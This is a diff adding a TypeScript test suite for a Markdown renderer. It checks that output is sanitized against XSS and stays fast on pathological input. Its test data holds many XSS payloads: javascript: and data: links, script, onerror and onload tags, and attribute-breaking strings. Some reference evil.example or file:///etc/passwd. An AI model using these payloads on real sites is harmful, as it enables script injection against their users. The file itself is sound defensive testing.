@@ -1,0 +1,271 @@
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+import fc from "fast-check";
+import { limits } from "./limits.ts";
+import { renderMarkdown } from "./markdown.ts";
+
+const attack = {
+  schemes: [
+    "[a](javascript:alert(1))",
+    "[a](JaVaScRiPt:alert(1))",
+    "[a](&#106;avascript:alert(1))",
+    "[a](&#x6A;&#x61;vascript&colon;alert(1))",
+    "[a](javascript&#58;alert(1))",
+    "[a](java\tscript:alert(1))",
+    "[a](<java\nscript:alert(1)>)",
+    "[a](<\x01javascript:alert(1)>)",
+    "[a]( javascript:alert(1))",
+    "[a](javascript%3Aalert(1))",
+    "[a](javascript\\:alert(1))",
+    "[a](vbscript:msgbox(1))",
+    "[a](data:text/html;base64,PHNjcmlwdD4=)",
+    "[a](data:image/svg+xml,<svg/onload=alert(1)>)",
+    "[a](data:image/png;base64,iVBOR)",
+    "[a](file:///etc/passwd)",
+    "[a](blob:null/1)",
+    "[a](//evil.example)",
+    "[a](\\\\evil.example)",
+    "[a](/v1/auth/logout)",
+    "[a](#top)",
+    "[a]()",
+    "[a](<> 'b')",
+    "![a]()",
+    "[a](ftp://evil.example)",
+    "<javascript:alert(1)>",
+    "<data:text/html,x>",
+    "![a](javascript:alert(1))",
+    "![a](data:image/svg+xml;base64,PHN2Zz4=)",
+    "javascript:alert(1)",
+    "[a]: javascript:alert(1)\n\n[a]",
+  ],
+  html: [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>a</a>",
+    "<body onload=alert(1)>",
+    "<math><mi xlink:href='javascript:alert(1)'>",
+    "<details open ontoggle=alert(1)>",
+    "<style>@import 'http://evil.example'</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
+    "<form action=//evil.example><button>a</button></form>",
+    "<input autofocus onfocus=alert(1)>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "<scr<script>ipt>alert(1)</script>",
+    "\0<script\0>alert(1)</script>",
+  ],
+  attributes: [
+    '[a](http://b.example "\\" onclick=alert(1) x=\\"")',
+    "[a](http://b.example '\"><script>alert(1)</script>')",
+    '[a](http://b.example/"onmouseover="alert(1))',
+    '[a](<http://b.example/" onmouseover="alert(1)>)',
+    '![" onerror="alert(1)](http://b.example/x.png)',
+    '![a](http://b.example/x.png"onerror="alert(1))',
+    '<http://b.example/"onmouseover="alert(1)>',
+    'http://b.example/"onmouseover="alert(1)',
+    "http://b.example/<script>alert(1)</script>",
+    '```"><script>alert(1)</script>\ncode\n```',
+    '``` " onclick="alert(1)\ncode\n```',
+    "~~~<img/src=x/onerror=alert(1)>\ncode\n~~~",
+    "`<script>alert(1)</script>`",
+    "    <script>alert(1)</script>",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <script>alert(1)</script>",
+    "> <script>alert(1)</script>",
+    "- <script>alert(1)</script>",
+    "**<script>**alert(1)**</script>**",
+    "[<script>alert(1)</script>](http://b.example)",
+    "[![a](javascript:alert(1))](http://b.example)",
+    "<mailto:a@b.example?subject=%22><script>alert(1)</script>",
+  ],
+};
+
+describe("Markdown that attacks its reader", () => {
+  for (const [kind, vectors] of Object.entries(attack)) {
+    for (const vector of vectors) {
+      it(`comes out harmless (${kind}): ${JSON.stringify(vector)}`, () => {
+        assertHarmless(renderMarkdown(vector));
+        assertHarmless(renderMarkdown(`a ${vector} b\n\n> 1. ${vector}`));
+      });
+    }
+  }
+
+  it("is no link unless it leads to http, https or a mail address", () => {
+    for (const vector of attack.schemes) assert.doesNotMatch(renderMarkdown(vector), /<a/, vector);
+  });
+
+  it("comes out harmless in whatever combination", () => {
+    const vectors = Object.values(attack).flat();
+    const piece = fc.oneof(
+      fc.constantFrom(...vectors, ..."[]()<>\"'`*_~|#-!:&;\\\n\t ".split("")),
+      fc.string(),
+    );
+    fc.assert(
+      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
+        assertHarmless(renderMarkdown(pieces.join("")));
+      }),
+      { numRuns: 500 },
+    );
+  });
+});
+
+describe("Markdown that people write", () => {
+  const link = 'rel="noopener nofollow ugc"';
+  const examples: Record<string, [string, string]> = {
+    "paragraphs, in which a line break counts": ["a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>\n"],
+    emphasis: ["**a** *b* ~~c~~", "<p><strong>a</strong> <em>b</em> <s>c</s></p>\n"],
+    "code with its language": [
+      "```ts\n1 < 2\n```",
+      '<pre><code class="language-ts">1 &lt; 2\n</code></pre>\n',
+    ],
+    "links that tell nothing of where they come from": [
+      '[a](https://b.example/c?d=1&e=2 "f")',
+      `<p><a href="https://b.example/c?d=1&amp;e=2" title="f" ${link}>a</a></p>\n`,
+    ],
+    "bare addresses": [
+      "see https://b.example/c.",
+      `<p>see <a href="https://b.example/c" ${link}>https://b.example/c</a>.</p>\n`,
+    ],
+    "mail addresses": [
+      "<a@b.example>",
+      `<p><a href="mailto:a@b.example" ${link}>a@b.example</a></p>\n`,
+    ],
+    "file names, which are no sites": ["README.md", "<p>README.md</p>\n"],
+    "tables, aligned": [
+      "|a|b|\n|-|:-:|\n|c|d|",
+      "<table>\n<thead>\n<tr>\n" +
+        '<th>a</th>\n<th style="text-align:center">b</th>\n' +
+        "</tr>\n</thead>\n<tbody>\n<tr>\n" +
+        '<td>c</td>\n<td style="text-align:center">d</td>\n' +
+        "</tr>\n</tbody>\n</table>\n",
+    ],
+    "quotes and lists within each other": [
+      "> 1. a\n> 2. b",
+      "<blockquote>\n<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n</blockquote>\n",
+    ],
+  };
+  for (const [what, [text, html]] of Object.entries(examples)) {
+    it(`shows ${what}`, () => {
+      assert.equal(renderMarkdown(text), html);
+    });
+  }
+
+  it("shows an image as a link, so that opening a ticket loads nothing from a stranger", () => {
+    assert.equal(
+      renderMarkdown("![the *plan*](https://b.example/plan.png)"),
+      `<p><a href="https://b.example/plan.png" ${link}>the plan</a></p>\n`,
+    );
+    assert.equal(
+      renderMarkdown("![](https://b.example/plan.png)"),
+      `<p><a href="https://b.example/plan.png" ${link}>https://b.example/plan.png</a></p>\n`,
+    );
+    assert.equal(
+      renderMarkdown("[![plan](https://b.example/plan.png)](https://c.example) d"),
+      `<p><a href="https://c.example" ${link}>plan</a> d</p>\n`,
+    );
+  });
+
+  it("keeps a table of 300 rows and a quote of 1,000 lines whole", () => {
+    const table = renderMarkdown(`|a|b|c|\n|-|-|-|\n${"|d|e|f|\n".repeat(300)}`);
+    const quote = renderMarkdown("> a\n".repeat(1000));
+
+    assert.equal(table.match(/<tr>/g)?.length, 301);
+    assert.equal(quote.match(/<blockquote>/g)?.length, 1);
+  });
+});
+
+describe("Markdown that is made to be slow", () => {
+  const wideTable = `${"a|".repeat(181)}\n${"-|".repeat(181)}\n${"|\n".repeat(360)}\n`;
+  const longAddress = `[a]: http://b.example/${"c".repeat(30_000)}\n\n`;
+  const slow: Record<string, string> = {
+    "open brackets": "[",
+    "open images": "![?",
+    "links without an end": "[a](",
+    "nested labels": `${"[".repeat(9000)}${"]".repeat(9000)}`,
+    quotes: ">",
+    "quotes that end at a rule": "> ***\n-|-\n",
+    "quotes of an empty list": "\n-|-\n> -",
+    "lazy lines in a deep quote": `${">".repeat(18)}${"a\n".repeat(30_000)}`,
+    stars: "*",
+    "emphasis that never closes": "**a ~~b _c ",
+    "emphasis of both kinds": "*a_b**",
+    backticks: "`a",
+    "backticks of every length": Array.from({ length: 350 }, (_, n) => "`".repeat(n)).join(" "),
+    "fences without an end": "```\n~~~\n",
+    "lists in lists": Array.from({ length: 300 }, (_, n) => `${" ".repeat(n)}- a\n`).join(""),
+    "lists on one line": "- + * ",
+    "list items": "- a\n",
+    "loose lists": "- - - a\n\n",
+    "underlined headings": "a\n=\n",
+    "wide tables with short rows": wideTable,
+    "wide tables in quotes": `> ${wideTable.replaceAll("\n", "\n> ")}\n\n`,
+    "a table of 9,000 columns": `${"a|".repeat(9000)}\n${"-|".repeat(9000)}\n${"|a\n".repeat(9000)}`,
+    "many small tables": "a|b\n-|-\nc|d\n\n",
+    "one long address, named often": longAddress + "[a] ".repeat(8000),
+    "addresses without an end": "**~~~http://a.bhttp://a.b/",
+    "addresses in angle brackets": "<https://x",
+    "mail addresses": "a@b.c mailto:",
+    entities: "&amp;&#1;&",
+    escapes: "\\\n",
+    "empty lines": "\n",
+    spaces: " ",
+  };
+  for (const [what, unit] of Object.entries(slow)) {
+    it(`takes less than half a second and stays small: ${what}`, () => {
+      const { text: length } = limits;
+      const text = unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
+      renderMarkdown(text.slice(0, 2000));
+
+      const inTime = () => cpuMillisecondsOf(() => renderMarkdown(text)) < 500;
+
+      assert.ok(inTime() || inTime() || inTime(), "three times too slow");
+      assert.ok(renderMarkdown(text).length < 16 * length);
+    });
+  }
+});
+
+const tags = new Set([
+  ..."p br hr h1 h2 h3 h4 h5 h6 strong em s a code pre blockquote ul ol li".split(" "),
+  ..."table thead tbody tr th td".split(" "),
+]);
+const attributes: Record<string, RegExp> = {
+  "a href": /^(?:https?:\/\/|mailto:)/,
+  "a title": /^/,
+  "a rel": /^noopener nofollow ugc$/,
+  "code class": /^language-/,
+  "ol start": /^\d+$/,
+  "th style": /^text-align:(?:left|center|right)$/,
+  "td style": /^text-align:(?:left|center|right)$/,
+};
+
+/** Stricter than a browser: every "<" begins a permitted tag, in the one form that we write. */
+function assertHarmless(html: string): void {
+  const shape = /[^<>]+|<\/?([a-z0-9]+)((?: [a-z]+="[^"<>]*")*)>/gy;
+  let end = 0;
+  for (const [piece, tag, attributeList = ""] of html.matchAll(shape)) {
+    end += piece.length;
+    if (tag) assert.ok(tags.has(tag), `a tag ${tag} in ${html}`);
+    const given = [...attributeList.matchAll(/ ([a-z]+)="([^"]*)"/g)];
+    for (const [, name, value = ""] of given) {
+      assert.match(value, attributes[`${tag} ${name}`] ?? /^\b$/, `${tag} ${name} in ${html}`);
+    }
+    if (piece.startsWith("<a")) assert.match(attributeList, / href=".* rel="/, html);
+  }
+  assert.equal(end, html.length, `no HTML of ours: ${html.slice(end)}`);
+}
+
+/** Processor time, so that what else the machine does is not counted. */
+function cpuMillisecondsOf(work: () => unknown): number {
+  const before = process.cpuUsage();
+  work();
+  const { user, system } = process.cpuUsage(before);
+  return (user + system) / 1000;
+}
